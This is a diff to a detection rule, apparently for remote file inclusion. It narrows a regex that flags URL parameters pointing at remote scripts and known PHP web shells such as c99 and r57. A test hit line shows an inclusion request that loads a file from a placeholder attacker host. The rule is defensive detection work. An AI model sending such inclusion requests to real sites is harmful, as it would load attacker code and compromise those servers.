@@ -20,7 +20,7 @@ export default defineRule({
   where: ['arg'],
   needs: [['=http://', '=https://', '=ftp://', '=ftps://', '= http', '=http:\\']],
   match:
-    /=\s?(?:(?:https?|ftps?):|\b)[/\\]{2}[^\s"<>]{3,300}(?:\.(?:txt|php\d?|inc|gif|jpe?g|png|dat|log|pl|cgi|sh|py|bmp)\?{1,3}(?:$|cmd=|&)|\?{2}$)|=\s?(?:https?|ftps?):\/\/[^\s"<>?]{3,300}[/_.-](?:(?:c99|r57|cmd|exec|backdoor|bypass|safe\d?|idx?|echo|fx29\w{0,10}|byroe|response|copyright|shell)\.?(?:txt|php\d?|sh)|(?:c99|r57|cmd|byroe|fx29\w{0,10})\.(?:gif|jpe?g))\b|=\s?(?:https?|ftps?):\/\/[^\s"<>?]{3,300}\.sh(?:$|[?#])/i,
+    /=\s?(?:https?|ftps?):[/\\]{2}[^\s"<>]{3,300}(?:\.(?:txt|php\d?|inc|gif|jpe?g|png|dat|log|pl|cgi|sh|py|bmp)\?{1,3}(?:$|cmd=|&)|\?{2}$)|=\s?(?:https?|ftps?):\/\/[^\s"<>?]{3,300}[/_.-](?:(?:c99|r57|cmd|exec|backdoor|bypass|safe\d?|idx?|echo|fx29\w{0,10}|byroe|response|copyright|shell)\.?(?:txt|php\d?|sh)|(?:c99|r57|cmd|byroe|fx29\w{0,10})\.(?:gif|jpe?g))\b|=\s?(?:https?|ftps?):\/\/[^\s"<>?]{3,300}\.sh(?:$|[?#])/i,
 
   hits: [
     'GET /index.php?page=http://evil.example/x.txt? HTTP/1.1',
